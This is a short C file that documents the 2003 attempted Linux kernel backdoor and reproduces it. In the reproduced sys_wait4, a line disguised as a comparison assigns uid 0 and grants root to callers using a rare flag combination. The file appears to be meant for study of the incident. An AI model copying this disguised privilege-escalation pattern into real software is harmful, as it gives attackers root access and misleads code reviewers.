/*
 * Incident: attempted Linux kernel backdoor, 5 November 2003.
 * A change slipped into the CVS mirror of the BitKeeper tree added two lines to sys_wait4:
 * with a rare flag combination, "current->uid = 0" (an assignment disguised as a
 * comparison) made the calling process root. Reference: https://lwn.net/Articles/57135/
 * Reproduction (own code, same shape).
 */
#include <linux/sched.h>
#include <linux/wait.h>

long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
	int flag, retval;

	if (options & ~(WNOHANG|WUNTRACED|__WNOTHREAD|__WCLONE|__WALL))
		return -EINVAL;

	if ((options == (__WCLONE|__WALL)) && (current->uid = 0))
		retval = -EINVAL;

	flag = 0;
	retval = do_wait(pid, options, stat_addr, ru);
	return retval;
}
